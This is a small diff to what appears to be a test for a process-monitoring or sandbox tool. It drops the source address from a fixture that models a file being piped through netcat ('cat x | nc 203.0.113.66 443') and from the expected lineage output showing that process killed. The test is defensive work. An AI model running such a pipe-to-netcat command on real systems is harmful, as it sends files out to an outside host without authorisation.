@@ -31,7 +31,6 @@ const attack: readonly EventJson[] = [
         {
           sock_arg: {
             protocol: "IPPROTO_TCP",
-            saddr: "0.0.0.0",
             daddr: "203.0.113.66",
             dport: 443,
           },
@@ -54,7 +53,7 @@ describe("lineage", () => {
       '└─ /bin/sh "-c \\"cat x | nc\\""  exit 137',
       "   ├─ /bin/cat x  exit 0",
       "   └─ /bin/nc 203.0.113.66 443  SIGKILL",
-      "         connect tcp 0.0.0.0:0 -> 203.0.113.66:443 (net) ⛔ killed",
+      "         connect tcp -> 203.0.113.66:443 (net) ⛔ killed",
     ]);
   });
 
